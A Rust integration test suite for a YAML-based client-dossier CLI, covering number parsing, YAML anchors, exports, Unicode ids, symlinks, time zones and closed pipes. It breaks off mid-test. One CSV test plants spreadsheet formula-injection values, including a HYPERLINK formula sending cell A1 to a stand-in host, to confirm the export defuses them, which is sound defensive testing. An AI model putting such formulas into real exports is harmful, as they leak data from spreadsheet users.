//! Faults of the kind found when the tool meets real folders, spreadsheets,
//! time zones and editors: each test is one instance, run on the real binary.

mod common;

use common::{Run, Scratch, dossier, dossier_dir, fixture, parse_csv, scratch};
use std::fs;
use std::path::Path;

/// The complete, valid dossier of the fixtures (reviewed 2026-10-01, no warnings).
fn complete() -> String {
    fs::read_to_string(fixture("check", "valid/complete.yaml")).expect("the fixture")
}

/// `complete()` with each `(from, to)` replaced once; every `from` must be there.
fn edited(edits: &[(&str, &str)]) -> String {
    let mut text = complete();
    for (from, to) in edits {
        assert!(text.contains(from), "the fixture has no `{from}`");
        text = text.replacen(from, to, 1);
    }
    text
}

/// A fresh folder holding `files` (relative path, text).
fn folder(name: &str, files: &[(&str, &str)]) -> Scratch {
    let dir = scratch(name);
    for (path, text) in files {
        let path = dir.join(path);
        fs::create_dir_all(path.parent().expect("a parent")).expect("create a folder");
        fs::write(path, text).expect("write a dossier");
    }
    dir
}

// ------------------------------------------------------------------ numbers

#[test]
fn a_number_that_is_not_finite_is_wrong_type_naming_what_was_found() {
    // Every amount of the format, each with another spelling of YAML's
    // non-finite numbers.
    let text = edited(&[
        ("revenue: 1200000000", "revenue: .inf"),
        ("net_income: 90000000", "net_income: -.inf"),
        ("amount: 4500000", "amount: .nan"),
        ("amount: 30000000", "amount: .NaN"),
        ("next_year: 12000000", "next_year: .Inf"),
        (
            "three_to_five_years: 60000000",
            "three_to_five_years: +.inf",
        ),
    ]);
    let dir = folder("not-finite", &[("acme.yaml", &text)]);
    let run = dossier(&["check", "--format", "json", dir.to_str().unwrap()]);
    assert_eq!(run.status, 1, "{run}");
    let found: Vec<(String, String, u64)> = run.json()["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            assert_eq!(d["code"], "wrong-type", "{d}");
            let message = d["message"].as_str().unwrap();
            let quoted = message.split('`').nth(1).unwrap_or_default().to_owned();
            (
                d["key"].as_str().unwrap().to_owned(),
                quoted,
                d["column"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            (
                "client.financials[0].revenue".to_owned(),
                ".inf".to_owned(),
                16
            ),
            (
                "client.financials[0].net_income".to_owned(),
                "-.inf".to_owned(),
                19
            ),
            (
                "company_view.history[0].amount".to_owned(),
                ".nan".to_owned(),
                15
            ),
            (
                "company_view.relationship.purchase_budget.amount".to_owned(),
                ".NaN".to_owned(),
                15
            ),
            (
                "company_view.opportunity.next_year".to_owned(),
                ".Inf".to_owned(),
                16
            ),
            (
                "company_view.opportunity.three_to_five_years".to_owned(),
                "+.inf".to_owned(),
                26
            ),
        ],
        "{run}"
    );
    assert!(!run.stdout.contains("floating"), "{run}");
}

#[test]
fn totals_never_become_inf_or_nan() {
    let bad = edited(&[
        ("next_year: 12000000", "next_year: .inf"),
        ("three_to_five_years: 60000000", "three_to_five_years: .nan"),
    ]);
    let dir = folder(
        "not-finite-list",
        &[("acme.yaml", &bad), ("good.yaml", &complete())],
    );
    let run = dossier_dir(&dir, &["list"]);
    assert_eq!(run.status, 2, "the broken dossier is named\n{run}");
    assert!(run.stderr.contains("acme.yaml:64:16"), "{run}");
    let shown = run.stdout.to_lowercase();
    assert!(!shown.contains("inf") && !shown.contains("nan"), "{run}");
    assert!(run.stdout.contains("12,000,000"), "{run}");
}

#[test]
fn a_merge_key_twice_in_one_mapping_is_duplicate_key() {
    let text = edited(&[
        (
            "  - name: Pavel Orlov\n",
            "  - &ceo\n    name: Pavel Orlov\n",
        ),
        (
            "  - name: Elena Sokolova\n    title: Assistant to the CEO\n",
            "  - <<: *ceo\n    <<: *cio\n    name: Tom Ober\n  - name: Elena Sokolova\n    title: Assistant to the CEO\n",
        ),
        (
            "  - name: Maria Volkova\n",
            "  - &cio\n    name: Maria Volkova\n",
        ),
    ]);
    let dir = folder("merge-twice", &[("acme.yaml", &text)]);
    let run = dossier(&["check", "--format", "json", dir.to_str().unwrap()]);
    assert_eq!(run.status, 1, "{run}");
    let diagnostics = run.json()["diagnostics"].clone();
    let first = &diagnostics[0];
    assert_eq!(first["code"], "duplicate-key", "{run}");
    assert_eq!(first["key"], "decision_group[2].<<", "{run}");
    assert_eq!(
        first["line"],
        text.lines().position(|l| l == "    <<: *cio").unwrap() + 1
    );
    assert_eq!(first["column"], 5, "{run}");

    // Both merged in one `<<` is what the merge-key spec allows.
    let legal = text.replace("  - <<: *ceo\n    <<: *cio\n", "  - <<: [*ceo, *cio]\n");
    fs::write(dir.join("acme.yaml"), legal).unwrap();
    let run = dossier(&["check", "--format", "json", dir.to_str().unwrap()]);
    let codes: Vec<String> = run.json()["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["code"].as_str().unwrap().to_owned())
        .collect();
    assert!(!codes.contains(&"duplicate-key".to_owned()), "{run}");
}

// ------------------------------------------------------------------ exports

#[test]
fn json_writes_whole_amounts_as_integers() {
    let dir = folder("json-integers", &[("acme.yaml", &complete())]);
    let list = dossier_dir(&dir, &["list", "--format", "json"]);
    assert_eq!(list.status, 0, "{list}");
    assert!(list.stdout.contains("\"next_year\": 12000000,"), "{list}");
    let show = dossier_dir(&dir, &["show", "acme", "--format", "json"]);
    assert_eq!(show.status, 0, "{show}");
    for out in [&list.stdout, &show.stdout] {
        assert!(!out.contains(".0,") && !out.contains(".0\n"), "{out}");
    }
    assert!(show.stdout.contains("\"revenue\": 1200000000,"), "{show}");
    assert!(show.stdout.contains("\"amount\": 4500000,"), "{show}");
    // A fraction stays.
    fs::write(
        dir.join("acme.yaml"),
        edited(&[("next_year: 12000000", "next_year: 1234.5")]),
    )
    .unwrap();
    let list = dossier_dir(&dir, &["list", "--format", "json"]);
    assert!(list.stdout.contains("\"next_year\": 1234.5,"), "{list}");
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() {
    let client = "=HYPERLINK(\"http://x.example/?q=\"&A1,\"Click\")";
    let text = edited(&[
        (
            "name: ACME Logistics LLC",
            &format!("name: '{}'", client.replace('\'', "''")),
        ),
        (
            "account_manager: Ivan Petrov",
            "account_manager: '@SUM(1+9)'",
        ),
        ("reviewed_by: Ivan Petrov", "reviewed_by: '@SUM(1+9)'"),
        ("covered_by: Ivan Petrov", "covered_by: '@SUM(1+9)'"),
    ]);
    let dir = folder("csv-formulas", &[("acme.yaml", &text)]);
    for command in ["review", "list"] {
        let mut args = vec![command, "--format", "csv"];
        if command == "review" {
            args.extend(["--all", "--as-of", "2026-11-28"]);
        }
        let run = dossier_dir(&dir, &args);
        assert_eq!(run.status, 0, "{run}");
        let rows = parse_csv(&run.stdout);
        let header = &rows[0];
        let at = |name: &str| header.iter().position(|h| h == name).unwrap();
        let row = &rows[1];
        assert_eq!(row[at("client")], format!("'{client}"), "{run}");
        assert_eq!(row[at("account_manager")], "'@SUM(1+9)", "{run}");
        // Numbers stay numbers, negative ones too (the review is not yet due).
        let days: i64 = row[at("days_overdue")].parse().expect("a plain number");
        assert!(days < 0, "{run}");
        if command == "list" {
            assert_eq!(row[at("next_year")], "12000000", "{run}");
        }
    }
}

// ------------------------------------------------------------------ one view

#[test]
fn managers_are_grouped_as_names_are_compared() {
    let anna = edited(&[
        (
            "account_manager: Ivan Petrov",
            "account_manager: Анна Кузнецова",
        ),
        ("covered_by: Ivan Petrov", "covered_by: Анна Кузнецова"),
    ]);
    let anna_spaced = edited(&[
        (
            "account_manager: Ivan Petrov",
            "account_manager: анна  кузнецова",
        ),
        ("covered_by: Ivan Petrov", "covered_by: анна  кузнецова"),
        ("name: ACME Logistics LLC", "name: Second Client"),
    ]);
    let dir = folder(
        "one-manager",
        &[("a.yaml", &anna), ("b.yaml", &anna_spaced)],
    );
    let run = dossier_dir(&dir, &["report", "--as-of", "2026-11-28"]);
    assert_eq!(run.status, 0, "{run}");
    let start = run
        .stdout
        .find("id=\"totals-manager\"")
        .expect("the per-manager table");
    let table = &run.stdout[start..];
    let table = &table[..table.find("</table>").unwrap()];
    let body = &table[table.find("<tbody>").unwrap()..];
    assert_eq!(body.matches("<tr>").count(), 1, "{table}");
    assert!(body.contains("Анна Кузнецова"), "{table}");
    assert!(body.contains(">2</td>"), "{table}");

    for command in ["review", "list"] {
        let mut args = vec![command, "--owner", "АННА КУЗНЕЦОВА", "--format", "json"];
        if command == "review" {
            args.push("--all");
        }
        let run = dossier_dir(&dir, &args);
        assert_eq!(run.status, 0, "{run}");
        assert_eq!(run.json_ids(), ["a", "b"], "{run}");
    }
}

// ------------------------------------------------------------------ writing files

/// `complete()` with the `review` section moved to the top, so an anchor
/// there comes before aliases in the sections below.
fn review_first(review: &str, edits: &[(&str, &str)]) -> String {
    let text = edited(edits);
    let at = text
        .find("review:\n  last_reviewed")
        .expect("the review section");
    text[..at].replacen("version: 1\n", &format!("version: 1\n{review}"), 1)
}

fn reviewed(dir: &Path, args: &[&str]) -> Run {
    let mut all = vec!["reviewed", "acme"];
    all.extend_from_slice(args);
    dossier_dir(dir, &all)
}

#[test]
fn reviewed_refuses_a_value_other_values_share() {
    let cases = [
        // An anchor at last_reviewed: the history date reads it through `*qbr`.
        review_first(
            "review:\n  last_reviewed: &qbr 2025-09-01\n  reviewed_by: Ivan Petrov\n",
            &[("    - date: 2025-06-02", "    - date: *qbr")],
        ),
        // The same in flow style.
        review_first(
            "review: {last_reviewed: &qbr 2025-09-01, reviewed_by: Ivan Petrov}\n",
            &[("    - date: 2025-06-02", "    - date: *qbr")],
        ),
        // An alias at last_reviewed: its bytes are the history date's.
        edited(&[
            ("    - date: 2025-06-02", "    - date: &qbr 2025-06-02"),
            ("last_reviewed: 2026-10-01", "last_reviewed: *qbr"),
        ]),
        // An anchor on the whole review section.
        review_first(
            "review: &r\n  last_reviewed: 2025-09-01\n  reviewed_by: Ivan Petrov\n",
            &[],
        ),
    ];
    for text in cases {
        let dir = folder("reviewed-shared", &[("acme.yaml", &text)]);
        let before = fs::read(dir.join("acme.yaml")).unwrap();
        let run = reviewed(&dir, &["--date", "2026-11-20"]);
        assert_eq!(run.status, 2, "{text}\n{run}");
        assert!(run.stderr.contains("anchor"), "{run}");
        assert_eq!(fs::read(dir.join("acme.yaml")).unwrap(), before, "{run}");
    }
}

#[test]
fn reviewed_refuses_a_shared_reviewer_only_when_asked_to_change_it() {
    let text = review_first(
        "review:\n  last_reviewed: 2025-09-01\n  reviewed_by: &who Ivan Petrov\n",
        &[("covered_by: Ivan Petrov", "covered_by: *who")],
    );
    let dir = folder("reviewed-shared-by", &[("acme.yaml", &text)]);
    let before = fs::read(dir.join("acme.yaml")).unwrap();
    let run = reviewed(&dir, &["--date", "2026-11-20", "--by", "Olga Smirnova"]);
    assert_eq!(run.status, 2, "{run}");
    assert!(run.stderr.contains("`review.reviewed_by`"), "{run}");
    assert!(run.stderr.contains("`&who`"), "{run}");
    assert_eq!(fs::read(dir.join("acme.yaml")).unwrap(), before);
    // The date alone does not touch the shared name.
    let run = reviewed(&dir, &["--date", "2026-11-20"]);
    assert_eq!(run.status, 0, "{run}");
    let after = fs::read_to_string(dir.join("acme.yaml")).unwrap();
    assert_eq!(after, text.replace("2025-09-01", "2026-11-20"));
}

#[test]
fn reviewed_refuses_moving_the_review_back_unless_forced() {
    let dir = folder("reviewed-back", &[("acme.yaml", &complete())]);
    let before = fs::read(dir.join("acme.yaml")).unwrap();
    let run = reviewed(&dir, &["--date", "2025-11-01"]);
    assert_eq!(run.status, 2, "{run}");
    assert!(
        run.stderr
            .contains("earlier than the review already recorded (2026-10-01)"),
        "{run}"
    );
    assert!(run.stderr.contains("--force"), "{run}");
    assert_eq!(fs::read(dir.join("acme.yaml")).unwrap(), before);
    let run = reviewed(&dir, &["--date", "2025-11-01", "--force"]);
    assert_eq!(run.status, 0, "{run}");
    let after = fs::read_to_string(dir.join("acme.yaml")).unwrap();
    assert!(after.contains("last_reviewed: 2025-11-01"), "{after}");
    // The same date again, or a later one, needs no --force.
    assert_eq!(reviewed(&dir, &["--date", "2025-11-01"]).status, 0);
    assert_eq!(reviewed(&dir, &["--date", "2025-12-01"]).status, 0);
}

#[cfg(unix)]
#[test]
fn report_output_writes_through_a_symlink_and_refuses_what_is_not_a_file() {
    let dir = folder("report-output", &[("dossiers/acme.yaml", &complete())]);
    let dossiers = dir.join("dossiers");
    // A published page behind a link: the page is updated, the link stays.
    fs::create_dir(dir.join("www")).unwrap();
    fs::write(dir.join("www/index.html"), "old page").unwrap();
    std::os::unix::fs::symlink("www/index.html", dir.join("report.html")).unwrap();
    let link = dir.join("report.html");
    let run = dossier_dir(&dossiers, &["report", "--output", link.to_str().unwrap()]);
    assert_eq!(run.status, 0, "{run}");
    assert!(link.symlink_metadata().unwrap().file_type().is_symlink());
    let page = fs::read_to_string(dir.join("www/index.html")).unwrap();
    assert!(page.starts_with("<!DOCTYPE html>"), "{page}");

    // A FIFO, a device, /dev/stdout and a folder are never replaced.
    let fifo = dir.join("pipe.html");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let folder_path = dir.join("www");
    for (target, what) in [
        (fifo.to_str().unwrap(), "named pipe"),
        ("/dev/full", "device"),
        ("/dev/stdout", "standard output"),
        (folder_path.to_str().unwrap(), "folder"),
    ] {
        let run = dossier_dir(&dossiers, &["report", "--output", target]);
        assert_eq!(run.status, 2, "{target}\n{run}");
        assert!(run.stderr.contains(what), "{target}\n{run}");
        assert!(run.stderr.contains("not a regular file"), "{run}");
        // The tool's own reason, said as its own: not what "the system reports".
        assert!(
            run.stderr
                .starts_with(&format!("dossier: error: cannot write {target}: it ")),
            "{run}"
        );
        let russian = dossier_dir(&dossiers, &["--lang", "ru", "report", "--output", target]);
        assert!(!russian.stderr.contains("система сообщает"), "{russian}");
    }
    use std::os::unix::fs::FileTypeExt as _;
    assert!(fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
    assert!(
        fs::metadata("/dev/full")
            .unwrap()
            .file_type()
            .is_char_device()
    );
    assert!(folder_path.is_dir());
    let leftovers: Vec<_> = fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.ends_with(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

// ------------------------------------------------------------------ check flags

#[test]
fn check_quiet_prints_only_what_fails() {
    // Warnings only: nothing at all.
    let warnings = fixture("check", "warnings");
    let run = dossier(&["check", "--quiet", &warnings]);
    assert_eq!(run.status, 0, "{run}");
    assert_eq!(
        (run.stdout.as_str(), run.stderr.as_str()),
        ("", ""),
        "{run}"
    );
    // With --strict the warnings fail, so they are printed.
    let run = dossier(&["check", "--quiet", "--strict", &warnings]);
    assert_eq!(run.status, 1, "{run}");
    assert!(run.stdout.contains("error[no-supporter]"), "{run}");
    // Errors next to warnings: the errors alone, without the summary line.
    let text = edited(&[
        ("last_reviewed: 2026-10-01", "last_reviewed: 2026-13-01"),
        (
            "    roles: [technical, supporter]\n",
            "    roles: [technical]\n",
        ),
    ]);
    let dir = folder(
        "check-quiet",
        &[("acme.yaml", &text), ("good.yaml", &complete())],
    );
    let run = dossier(&["check", "-q", dir.to_str().unwrap()]);
    assert_eq!(run.status, 1, "{run}");
    assert!(run.stdout.contains("error[invalid-date]"), "{run}");
    assert!(!run.stdout.contains("warning"), "{run}");
    assert!(!run.stdout.contains("dossiers:"), "{run}");
    let run = dossier(&["check", "-q", "--format", "json", dir.to_str().unwrap()]);
    let diagnostics = run.json()["diagnostics"].as_array().unwrap().clone();
    assert_eq!(diagnostics.len(), 1, "{run}");
}

#[test]
fn check_as_of_judges_future_reviews_as_of_that_day() {
    let dir = folder("check-as-of", &[("acme.yaml", &complete())]);
    let dir = dir.to_str().unwrap();
    let run = dossier(&["check", "--as-of", "2026-09-30", "--format", "json", dir]);
    assert_eq!(run.status, 1, "{run}");
    assert_eq!(
        run.json()["diagnostics"][0]["code"],
        "future-review",
        "{run}"
    );
    let run = dossier(&["check", "--as-of", "2026-10-01", dir]);
    assert_eq!(run.status, 0, "{run}");
    let run = dossier(&["check", "--as-of", "2026-02-30", dir]);
    assert_eq!(run.status, 2, "{run}");
}

// ------------------------------------------------------------------ time zones

/// The date now in UTC+14, the latest time zone.
fn latest_date() -> chrono::NaiveDate {
    (chrono::Utc::now() + chrono::TimeDelta::hours(14)).date_naive()
}

#[test]
fn a_review_recorded_where_the_day_came_first_is_not_in_the_future_elsewhere() {
    // In UTC-12 (the earliest zone, POSIX spelling) the local date is always
    // a day or two behind UTC+14's.
    const EARLIEST: &str = "AoE+12";
    let dir = folder("time-zones", &[("acme.yaml", &complete())]);
    let run_in_zone =
        |zone: &str, args: &[&str]| common::Dossier::new().dir(&dir).env("TZ", zone).run(args);
    let latest = latest_date().to_string();
    // Recorded with the date of the reviewer far east.
    let run = run_in_zone(EARLIEST, &["reviewed", "acme", "--date", &latest]);
    assert_eq!(run.status, 0, "{run}");
    let check = run_in_zone(EARLIEST, &["check"]);
    assert_eq!(check.status, 0, "{check}");
    let review = run_in_zone(EARLIEST, &["review"]);
    assert_eq!(review.status, 0, "{review}");
    // A day past that is in the future everywhere.
    let too_late = (latest_date() + chrono::TimeDelta::days(1)).to_string();
    let run = run_in_zone("UTC", &["reviewed", "acme", "--date", &too_late]);
    assert_eq!(run.status, 2, "{run}");
    assert!(run.stderr.contains("later than today"), "{run}");
    fs::write(
        dir.join("acme.yaml"),
        complete().replace("2026-10-01", &too_late),
    )
    .unwrap();
    let check = run_in_zone("UTC", &["check", "--format", "json"]);
    assert_eq!(check.status, 1, "{check}");
    assert_eq!(
        check.json()["diagnostics"][0]["code"],
        "future-review",
        "{check}"
    );
}

// ------------------------------------------------------------------ the walk and ids

fn nfd(text: &str) -> String {
    use unicode_normalization::UnicodeNormalization as _;
    text.nfd().collect()
}

#[test]
fn an_id_in_nfd_and_the_same_id_in_nfc_are_one_id() {
    let nfc_name = "йошкар-ола";
    let nfd_name = nfd(nfc_name);
    assert_ne!(nfc_name, nfd_name);
    let dir = folder(
        "nfc-ids",
        &[
            (&format!("a/{nfc_name}.yaml"), &complete()),
            (
                &format!("b/{nfd_name}.yaml"),
                &complete().replace("ACME Logistics LLC", "Other"),
            ),
        ],
    );
    let run = dossier(&["check", "--format", "json", dir.to_str().unwrap()]);
    assert_eq!(run.status, 1, "{run}");
    let diagnostics = run.json()["diagnostics"].clone();
    assert_eq!(diagnostics[0]["code"], "duplicate-id", "{run}");

    // `show` typed normally finds the file macOS wrote in NFD.
    fs::remove_dir_all(dir.join("a")).unwrap();
    let run = dossier_dir(&dir, &["show", nfc_name]);
    assert_eq!(run.status, 0, "{run}");
    assert!(
        run.stdout.contains("ACME Logistics LLC") || run.stdout.contains("Other"),
        "{run}"
    );
    let run = dossier_dir(&dir, &["reviewed", nfc_name, "--date", "2026-10-02"]);
    assert_eq!(run.status, 0, "{run}");
    let list = dossier_dir(&dir, &["list", "--format", "json"]);
    assert_eq!(
        list.json_ids(),
        [nfc_name],
        "ids are written in NFC\n{list}"
    );
}

#[test]
fn new_with_a_name_in_nfd_does_not_make_a_second_dossier() {
    let dir = scratch("new-nfd");
    let dossiers = dir.join("dossiers");
    let new = |name: &str| {
        common::Dossier::new()
            .dir(&dossiers)
            .env("USER", "Ivan Petrov")
            .run(&["new", name])
    };
    let first = new("Йошкар-Ола Логистик");
    assert_eq!(first.status, 0, "{first}");
    let second = new(&nfd("Йошкар-Ола Логистик"));
    assert_eq!(second.status, 2, "{second}");
    assert!(second.stderr.contains("is taken by"), "{second}");
    assert_eq!(fs::read_dir(&dossiers).unwrap().count(), 1);
}

#[test]
fn the_extension_is_matched_without_case_and_ids_differing_in_case_collide() {
    let dir = folder(
        "id-case",
        &[
            (
                "Client.YAML",
                &complete().replace("ACME Logistics LLC", "Client"),
            ),
            ("Acme.yaml", &complete()),
            (
                "sub/acme.Yml",
                &complete().replace("ACME Logistics LLC", "Other"),
            ),
        ],
    );
    let run = dossier(&["check", "--format", "json", dir.to_str().unwrap()]);
    assert_eq!(run.status, 1, "{run}");
    let json = run.json();
    assert_eq!(json["files"], 3, "{run}");
    let diagnostics = json["diagnostics"].as_array().unwrap();
    assert_eq!(diagnostics.len(), 1, "{run}");
    assert_eq!(diagnostics[0]["code"], "duplicate-id", "{run}");
    let message = diagnostics[0]["message"].as_str().unwrap();
    assert!(
        message.contains("`Acme`") && message.contains("`acme`"),
        "{message}"
    );
    assert!(message.contains("differ only in case"), "{message}");
    // `show` finds the one dossier whatever the case typed, and names both
    // when two collide.
    let run = dossier_dir(&dir, &["show", "client"]);
    assert_eq!(run.status, 0, "{run}");
    let run = dossier_dir(&dir, &["show", "ACME"]);
    assert_eq!(run.status, 2, "{run}");
    assert!(
        run.stderr.contains("Acme.yaml") && run.stderr.contains("acme.Yml"),
        "{run}"
    );
}

#[cfg(unix)]
#[test]
fn a_file_reached_through_a_symlink_is_read_once() {
    let dir = folder(
        "read-once",
        &[
            ("acme.yaml", &complete()),
            (
                "real/beta.yaml",
                &complete().replace("ACME Logistics LLC", "Beta"),
            ),
        ],
    );
    std::os::unix::fs::symlink("acme.yaml", dir.join("acme-old.yaml")).unwrap();
    std::os::unix::fs::symlink("real", dir.join("mirror")).unwrap();
    let dir_text = dir.to_str().unwrap();

    let run = dossier(&["check", "--format", "json", dir_text]);
    assert_eq!(run.status, 0, "{run}");
    assert_eq!(run.json()["files"], 2, "{run}");
    let notes: Vec<&str> = run.stderr.lines().collect();
    assert_eq!(notes.len(), 2, "{run}");
    assert!(
        notes[0].starts_with("dossier: note: ") && notes[0].contains("acme-old.yaml"),
        "{run}"
    );
    assert!(
        notes[1].contains("mirror/beta.yaml") && notes[1].contains("real/beta.yaml"),
        "{run}"
    );

    let list = dossier_dir(&dir, &["list"]);
    assert_eq!(list.status, 0, "{list}");
    assert!(
        list.stdout.contains("24,000,000"),
        "totals count each file once\n{list}"
    );
    assert!(list.stdout.ends_with("2 dossiers\n"), "{list}");
    assert_eq!(list.stderr.lines().count(), 2, "{list}");

    // --quiet silences the notes, never the results.
    let run = dossier(&["check", "--quiet", dir_text]);
    assert_eq!((run.status, run.stderr.as_str()), (0, ""), "{run}");
    let run = dossier_dir(&dir, &["review", "--quiet", "--as-of", "2027-06-01"]);
    assert_eq!((run.status, run.stderr.as_str()), (1, ""), "{run}");
    assert!(
        run.stdout.contains("ACME Logistics LLC") && run.stdout.contains("Beta"),
        "{run}"
    );
    // The link is still found by its own name.
    let run = dossier_dir(&dir, &["show", "acme-old"]);
    assert_eq!(run.status, 0, "{run}");
}

// ------------------------------------------------------------------ settings

#[test]
fn settings_are_found_from_the_dossiers_folder_named_by_dir_or_the_environment() {
    let text = complete().replace("  interval_months: 3\n", "");
    let root = folder(
        "settings-from-dir",
        &[
            (
                "accounts/dossier.yaml",
                "review:\n  interval_months: 2\ntemplates_dir: forms\n",
            ),
            ("accounts/dossiers/acme.yaml", &text),
            (
                "accounts/forms/default.yaml",
                &complete()
                    .replace("ACME Logistics LLC", "{{name}}")
                    .replace("# Key-account dossier", "# From the team's own form")
                    .replace("last_reviewed: 2026-10-01", "last_reviewed: {{today}}")
                    .replace("  interval_months: 3\n", ""),
            ),
            // A settings file where the job happens to run: never used.
            ("elsewhere/dossier.yaml", "review:\n  interval_months: 3\n"),
        ],
    );
    let dossiers = root.join("accounts/dossiers");
    let cwd = root.join("elsewhere");
    // Reviewed 2026-10-01 every 2 months: due 2026-12-01, overdue on the 5th.
    let by_env = common::Dossier::new()
        .cwd(&cwd)
        .env("DOSSIER_DIR", &dossiers)
        .run(&["review", "--quiet", "--as-of", "2026-12-05"]);
    assert_eq!(by_env.status, 1, "{by_env}");
    assert!(by_env.stdout.contains("ACME Logistics LLC"), "{by_env}");
    let by_flag = common::Dossier::new().cwd(&cwd).dir(&dossiers).run(&[
        "review",
        "--quiet",
        "--as-of",
        "2026-12-05",
    ]);
    assert_eq!(by_flag.status, 1, "{by_flag}");
    // The templates of that settings file too.
    let new = common::Dossier::new()
        .cwd(&cwd)
        .dir(&dossiers)
        .env("USER", "Ivan Petrov")
        .run(&["new", "Beta Foods"]);
    assert_eq!(new.status, 0, "{new}");
    let written = fs::read_to_string(dossiers.join("beta-foods.yaml")).unwrap();
    assert!(
        written.starts_with("# From the team's own form"),
        "{written}"
    );
}

// ------------------------------------------------------------------ one view

#[test]
fn report_reads_dossiers_as_review_does() {
    let wrong_amount = edited(&[
        ("next_year: 12000000", "next_year: 12 000 000"),
        ("last_reviewed: 2026-10-01", "last_reviewed: 2026-05-01"),
    ]);
    let dir = folder(
        "report-as-review",
        &[
            ("acme.yaml", &wrong_amount),
            ("garbage.yaml", "version: 1\nclient: [unclosed\n"),
        ],
    );
    let review = dossier_dir(
        &dir,
        &["review", "--as-of", "2026-11-28", "--format", "json"],
    );
    assert_eq!(review.json_ids(), ["acme"], "{review}");
    let run = dossier_dir(&dir, &["report", "--as-of", "2026-11-28"]);
    assert_eq!(run.status, 2, "{run}");
    let page = &run.stdout;
    assert!(page.contains("1 overdue"), "{page}");
    let start = page
        .find("<section id=\"unreadable\"")
        .expect("could not read");
    let problems = &page[start..start + page[start..].find("</section>").unwrap()];
    assert_eq!(problems.matches("<li>").count(), 1, "{problems}");
    assert_eq!(
        problems.matches("garbage.yaml").count(),
        1,
        "the path once\n{problems}"
    );
    assert!(!problems.contains("acme.yaml"), "{problems}");
    // stderr names each broken file once, as review does.
    assert_eq!(run.stderr.matches("garbage.yaml").count(), 1, "{run}");
    assert_eq!(run.stderr.matches("acme.yaml").count(), 1, "{run}");
    assert_eq!(run.stderr.lines().count(), 2, "{run}");
}

// ------------------------------------------------------------- closed pipe

/// Copies the folder `from` into `to`, sub-folders included.
fn copy_tree(from: &Path, to: &Path) {
    fs::create_dir_all(to).expect("create a folder");
    for entry in fs::read_dir(from).expect("read a folder") {
        let entry = entry.expect("a folder entry");
        let target = to.join(entry.file_name());
        if entry.file_type().expect("a file type").is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).expect("copy a file");
        }
    }
}

/// `dossier ARGS` in `cwd` with stdout a pipe whose reading end is already
/// closed, as `dossier … | head -c 1` leaves it once head has read its byte.
fn with_closed_stdout(cwd: &Path, args: &[&str]) -> (i32, String) {
    let (reader, writer) = std::io::pipe().expect("a pipe");
    drop(reader);
    let output = common::Dossier::new()
        .cwd(cwd)
        .envs(common::NO_GIT_CONFIG)
        .command(args)
        .stdout(writer)
        .stderr(std::process::Stdio::piped())
        .output()
        .expect("run dossier");
    (
        output
            .status
            .code()
            .expect("dossier was killed by a signal"),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

/// A reader that stops reading (`| head -c 1`, `| true`) is the reader's
/// choice: every command that prints exits as it would have, quietly,
/// having done all its work, and never panics.
#[test]
fn every_command_exits_quietly_when_the_reader_closes_the_pipe() {
    let repo = scratch("closed-pipe");
    copy_tree(Path::new(&common::bundled()), &repo.join("dossiers"));
    for args in [
        &["init", "-q"][..],
        &["add", "."],
        &["commit", "-q", "-m", "the portfolio"],
    ] {
        let run = common::git(&repo, args);
        assert_eq!(run.status, 0, "{run}");
    }
    let prints: &[&[&str]] = &[
        &["check"],
        &["check", "--format", "json"],
        &["review", "--all", "--as-of", "2026-11-28"],
        &["review", "--format", "csv", "--as-of", "2026-11-28"],
        &["list"],
        &["list", "--format", "json"],
        &["show", "romashka"],
        &["map", "romashka"],
        &["actions", "--all", "--as-of", "2026-11-28"],
        &["calendar"],
        &["report", "--as-of", "2026-11-28"],
        &["log", "romashka"],
        &["changes", "--since", "2000-01-01"],
        &["schema"],
        &["completions", "bash"],
        &["completions", "zsh"],
        &["completions", "fish"],
        &["completions", "powershell"],
        &["completions", "elvish"],
        &["--help"],
        &["--version"],
    ];
    for args in prints {
        let open = common::Dossier::new()
            .cwd(&repo)
            .envs(common::NO_GIT_CONFIG)
            .run(args);
        let (status, stderr) = with_closed_stdout(&repo, args);
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
        assert_eq!(status, open.status, "{args:?}: {stderr}\n{open}");
        assert_eq!(stderr, open.stderr, "{args:?}");
    }
    // Commands that write files print what they wrote: the file is written all the same.
    let writes: &[(&[&str], &str)] = &[
        (
            &["new", "Closed Pipe LLC", "--owner", "Ivan Petrov"],
            "dossiers/closed-pipe-llc.yaml",
        ),
        (
            &["reviewed", "romashka", "--date", "2026-11-28"],
            "dossiers/ru/romashka.yaml",
        ),
        (
            &["export", "--format", "json", "--output", "portfolio.json"],
            "portfolio.json",
        ),
        (&["report", "--output", "report.html"], "report.html"),
        (&["calendar", "--output", "reviews.ics"], "reviews.ics"),
        (&["init", "fresh"], "fresh/dossier.schema.json"),
    ];
    for (args, written) in writes {
        let before = fs::read(repo.join(written)).ok();
        let (status, stderr) = with_closed_stdout(&repo, args);
        assert!(!stderr.contains("panicked"), "{args:?}: {stderr}");
        assert_eq!(status, 0, "{args:?}: {stderr}");
        let after = fs::read(repo.join(written)).expect("written");
        assert_ne!(Some(after), before, "{args:?} wrote {written}");
    }
}

/// `dossier review 2>&1 | head -c 1`: stdout and stderr are one pipe whose
/// reader has gone. The errors about broken dossiers are dropped like the
/// results, and the exit code is the one the command gives with a reader.
#[test]
fn errors_on_a_closed_pipe_never_panic() {
    let broken = common::fixture("review", "broken");
    for args in [
        &["--dir", broken.as_str(), "list"][..],
        &["--dir", broken.as_str(), "review", "--as-of", "2026-11-28"],
        &["--dir", broken.as_str(), "report", "--as-of", "2026-11-28"],
        &["--dir", broken.as_str(), "show", "nosuch"],
        &["--dir", broken.as_str(), "changes"],
    ] {
        let open = common::Dossier::new().run(args);
        assert!(!open.stderr.is_empty(), "{args:?}: {open}");
        let (reader, writer) = std::io::pipe().expect("a pipe");
        drop(reader);
